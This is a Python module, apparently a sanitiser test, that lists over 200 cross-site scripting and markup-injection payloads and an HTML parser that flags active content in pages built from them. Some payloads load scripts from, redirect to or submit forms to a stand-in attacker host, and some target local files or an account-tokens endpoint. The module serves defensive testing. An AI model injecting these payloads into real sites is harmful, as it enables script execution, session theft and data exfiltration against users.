"""Text that wants to run in its reader's browser: over 200 payloads, and a check of what a page made of them."""

from dataclasses import dataclass, field
from html.parser import HTMLParser

HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
ELEMENTS = ("svg", "img src=x", "body", "details open", "video src=x", "input autofocus", "a href=x", "math", "marquee")
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
)
FORMS = (
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[a]: {}\n\n[a]",
    '<a href="{}">x</a>',
    "<img src='{}'>",
    "<iframe src={}>",
)
ODD = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0btype=text/javascript>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></code></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div hx-get=/account/tokens hx-trigger=load>x</div>",
    "<a data-hx-on:click='alert(1)' href=x>x</a>",
    "<img src=x:x onerror=alert(1) alt='",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "`onmouseover=alert(1)`",
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    '[x](#"onmouseover=alert(1)//)',
    '[x](https://e.example "t\\"><script>alert(1)</script>")',
    '![x" onerror="alert(1)](data:image/png;base64,AA==)',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "[^<script>]: x\n\n[^<script>]",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<a name='x' id='main' href='javascript:alert(1)' onclick=alert(1)>x</a>",
    '<a id="x" onfocus="alert(1)" tabindex=1>x</a>',
    "<pre style=x onclick=alert(1)>x<br onclick=alert(1)></pre>",
    "<h1 onclick=alert(1)>x</h1>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
PAYLOADS = (
    *ODD,
    *(f"<{element} {handler}=alert(1)>" for element in ELEMENTS for handler in HANDLERS),
    *(form.format(address) for form in FORMS for address in ADDRESSES),
)
assert len(set(PAYLOADS)) >= 200

_FORBIDDEN = {"style", "iframe", "object", "embed", "base", "math", "foreignobject", "template", "frame", "applet"}
_LINKS = ("https://", "http://", "mailto:", "/", "#", "?")
_IMAGES = ("/static/", "/modules/", "data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")


@dataclass
class Page(HTMLParser):
    """Finds active content in an HTML text; `findings` lists the places."""

    text: str
    findings: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: (value or "").strip() for name, value in attrs}
        if tag in _FORBIDDEN or (tag == "meta" and "http-equiv" in given):
            self.findings.append(f"<{tag}>")
        own = (given.get("src") or given.get("href", "")).startswith("/static/") or _is_feed(tag, given)
        if tag in ("script", "link") and not own:
            self.findings.append(f"<{tag} {given}>")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcset", "formaction", "srcdoc", "background", "ping"):
                self.findings.append(f"<{tag} {name}={value}>")
            if name in ("href", "action", "xlink:href") and (not value.startswith(_LINKS) or value.startswith("//")):
                self.findings.append(f"<{tag} {name}={value}>")
            if name == "src" and not value.startswith(_IMAGES):
                self.findings.append(f"<{tag} src={value}>")
            if name.startswith(("hx-", "data-hx-")) and name != "hx-ignore" and tag != "input":
                self.findings.append(f"<{tag} {name}={value}>")


def _is_feed(tag: str, given: dict[str, str]) -> bool:
    """The link to our own Atom feed, which nothing loads."""
    is_ours = given.get("href", "").startswith("/") and given.get("href", "").endswith("/feed.atom")
    return tag == "link" and given.get("rel") == "alternate" and is_ours


def findings_in(text: str) -> list[str]:
    return Page(text).findings
